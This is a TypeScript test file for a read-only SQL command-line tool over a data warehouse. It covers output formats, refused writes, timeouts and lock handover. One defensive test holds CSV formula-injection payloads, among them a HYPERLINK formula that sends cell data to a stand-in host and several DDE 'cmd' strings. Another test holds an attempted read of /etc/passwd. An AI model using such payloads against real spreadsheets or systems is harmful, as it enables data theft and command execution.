// `reporter-etl sql`: the real CLI over a synced warehouse. Its answers are checked against the emulator's
// ground truth (sessions per channel, message ids), its CSV is read back with csv-parse, and everything
// that would change the warehouse or read beside it is refused with exit 2 and leaves the file unchanged.
// A runaway query stops at --timeout, and gives the file to a writer that waits for it (exit 75).
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openWarehouse } from '../../src/warehouse/open-warehouse.js';
import { runCli } from '../helpers/run-cli.js';
import { createHarness, type Harness } from '../helpers/sync-harness.js';

const HOUR = 3_600_000;
let h: Harness;
let from: number;
let to: number;

beforeAll(async () => {
  h = await createHarness({ emulator: { sessions: 300, days: 2 } });
  to = h.running.emulator.now() - HOUR;
  from = to - 24 * HOUR;
  await h.sync({ from, to });
}, 120_000);
afterAll(async () => {
  await h?.close();
});
let child: ChildProcess | undefined;
afterEach(() => {
  if (child && child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
  child = undefined;
});

/** Minutes of work on two cores: the messages' self-join is too small here, so 10^12 hashes of a series. */
const RUNAWAY = 'select max(hash(a.range, b.range)) as h from range(1000000) a, range(1000000) b';

const window = () => `start_time >= to_timestamp(${from / 1000}) and start_time < to_timestamp(${to / 1000})`;

describe('reporter-etl sql', () => {
  it('answers as the ground truth: sessions per channel as JSON, message ids as CSV', async () => {
    const truth = h.truth(from, to);
    const json = await runCli(
      [
        'sql',
        '--json',
        `select channel_type, count(*) as sessions from sessions where ${window()} group by 1`,
      ],
      h.env,
    );
    expect(json.code, json.stderr).toBe(0);
    const rows = JSON.parse(json.stdout) as { channel_type: string; sessions: number }[];
    const expected = Object.fromEntries(
      Object.entries(truth.byChannel)
        .filter(([, c]) => c.sessions > 0)
        .map(([channel, c]) => [channel, c.sessions]),
    );
    expect(Object.fromEntries(rows.map((r) => [r.channel_type, r.sessions]))).toEqual(expected);

    const csv = await runCli(
      [
        'sql',
        '--format',
        'csv',
        `select m.question_id, m.timestamp from messages m join sessions s using (project, session_id) where ${window().replaceAll('start_time', 's.start_time')} order by 1`,
      ],
      h.env,
    );
    expect(csv.code, csv.stderr).toBe(0);
    const records = parse(csv.stdout, { columns: true }) as { question_id: string; timestamp: string }[];
    expect(records.map((r) => r.question_id)).toEqual(truth.messageIds);
    expect(records[0]!.timestamp).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });

  it('CSV: a text a spreadsheet would run as a formula gets a leading quote (OWASP); JSON stays exact', async () => {
    const cells = {
      link: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      cmd: "+cmd|' /C calc'!A0",
      sum: "@SUM(1+1)*cmd|' /C calc'!A0",
      minus: "-2+3+cmd|' /C calc'!A0",
      tab: '\t=1+1',
      cr: '\r=1+1',
      plain: 'a = b + c',
      negative: '-5',
      exponent: '+1.5e3',
    };
    // a SQL literal of the text, its tab and carriage return as chr()
    const literal = (text: string) =>
      `'${text.replaceAll("'", "''").replaceAll('\t', "' || chr(9) || '").replaceAll('\r', "' || chr(13) || '")}'`;
    const columns = Object.entries(cells).map(([name, text]) => `${literal(text)} as ${name}`);
    const sql = `select ${columns.join(', ')}, -5 as n`;
    const csv = await runCli(['sql', '--format', 'csv', sql], h.env);
    expect(csv.code, csv.stderr).toBe(0);
    const [row] = parse(csv.stdout, { columns: true }) as Record<string, string>[];
    expect(row).toEqual({
      link: `'${cells.link}`,
      cmd: `'${cells.cmd}`,
      sum: `'${cells.sum}`,
      minus: `'${cells.minus}`,
      tab: `'${cells.tab}`,
      // the CLI shows a carriage return as \r (src/text/escape-terminal-text.ts), the quote before it
      cr: "'\\r=1+1",
      plain: 'a = b + c',
      negative: '-5',
      exponent: '+1.5e3',
      n: '-5',
    });
    const json = await runCli(['sql', '--json', sql], h.env);
    const exact = JSON.parse(json.stdout)[0];
    expect(exact.link).toBe(cells.link);
    expect(exact.tab).toBe('\t=1+1');
    expect(exact.n).toBe(-5);
  });

  it('quotes CSV fields as RFC 4180 and keeps JSON types', async () => {
    const csv = await runCli(
      [
        'sql',
        '--format',
        'csv',
        `select 'a,b' as x, 'say "hi"' as y, null as z, 'two' || chr(10) || 'lines' as w`,
      ],
      h.env,
    );
    expect(csv.code, csv.stderr).toBe(0);
    expect(parse(csv.stdout, { columns: true })).toEqual([
      { x: 'a,b', y: 'say "hi"', z: '', w: 'two\nlines' },
    ]);
    const json = await runCli(
      [
        'sql',
        '--json',
        'select 42::bigint as n, 9007199254740993::bigint as big, 1.25::decimal(5,2) as d, [1, 2] as l, 1 as a, 2 as a',
      ],
      h.env,
    );
    expect(JSON.parse(json.stdout)).toEqual([
      { n: 42, big: '9007199254740993', d: 1.25, l: [1, 2], a: 1, a_2: 2 },
    ]);
  });

  it('a table shows at most --max-rows rows and says more were left out', async () => {
    const table = await runCli(['sql', '--max-rows', '3', 'select question_id from messages'], h.env);
    expect(table.code, table.stderr).toBe(0);
    const lines = table.stdout.trim().split('\n');
    expect(lines).toHaveLength(1 + 3 + 1);
    expect(lines.at(-1)).toMatch(/first 3 rows; more not shown/);
  });

  it('refuses writes, files, settings and two statements with exit 2, changing nothing', async () => {
    const before = createHash('sha256').update(readFileSync(h.config.warehousePath)).digest('hex');
    const cases: [string, RegExp][] = [
      ["insert into etl_state values ('p', 'k', 'v', now())", /read-only mode[\s\S]*sql only reads/],
      ['delete from sessions', /read-only mode/],
      ["select * from read_text('/etc/passwd')", /Permission Error[\s\S]*only the warehouse/],
      ["attach '/tmp/other.duckdb'", /Permission Error/],
      ["set memory_limit = '8GB'", /configuration has been locked/],
      ['select 1; select 2', /one statement at a time; this text has 2/],
      ['select * from no_such_table', /Catalog Error[\s\S]*show tables/],
    ];
    for (const [query, message] of cases) {
      const r = await runCli(['sql', query], h.env);
      expect(r.code, `${query}: ${r.stderr}`).toBe(2);
      expect(r.stderr, query).toMatch(message);
    }
    expect(createHash('sha256').update(readFileSync(h.config.warehousePath)).digest('hex')).toBe(before);
  });

  it('explains a missing query, a bad option and a missing warehouse', async () => {
    expect((await runCli(['sql'], h.env)).stderr).toMatch(/sql needs a query/);
    expect((await runCli(['sql', '--format', 'xml', 'select 1'], h.env)).stderr).toMatch(
      /--format expects one of table, csv, json/,
    );
    const none = await runCli(['sql', 'select 1'], { ...h.env, REPORTER_DATA_DIR: `${h.dir}/nothing-here` });
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/REPORTER_DATA_DIR: there is no warehouse at .* run reporter-etl sync first/);
  });

  it('stops a runaway query at --timeout (exit 2, naming the option and REPORTER_SQL_TIMEOUT_SECONDS)', async () => {
    const started = performance.now();
    const r = await runCli(['sql', '--timeout', '1', RUNAWAY], h.env);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('time limit, 1 s');
    expect(r.stderr).toContain('REPORTER_SQL_TIMEOUT_SECONDS');
    expect(r.stderr).toContain('--timeout');
    expect(performance.now() - started).toBeLessThan(15_000);
  }, 30_000);

  it('gives the warehouse to a writer that waits: the query stops with exit 75, the writer gets in', async () => {
    const running = spawn(process.execPath, ['bin/reporter-etl.js', 'sql', RUNAWAY], {
      env: { ...process.env, ...h.env, LOG_LEVEL: 'debug' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child = running;
    let stderr = '';
    running.stderr.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    const exited = new Promise<number | null>((resolve) => running.once('exit', resolve));
    // the query runs once the sandbox holds the file (its debug line)
    const deadline = Date.now() + 15_000;
    while (!stderr.includes('the query sandbox holds the warehouse') && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 50));
    const started = performance.now();
    const writer = await openWarehouse({ path: h.config.warehousePath, access: 'write', lockWaitMs: 10_000 });
    try {
      await writer.startRun({ runId: 'writer-got-in', project: 'p', job: 'test', trigger: 'manual' });
      await writer.finishRun('writer-got-in', { status: 'success', durationMs: 0 });
    } finally {
      await writer.close();
    }
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(await exited).toBe(75);
    expect(stderr).toContain(`stopped to let a writer (PID ${process.pid}) have the warehouse file`);
    expect(stderr).toContain('Run it again');
  }, 40_000);
});
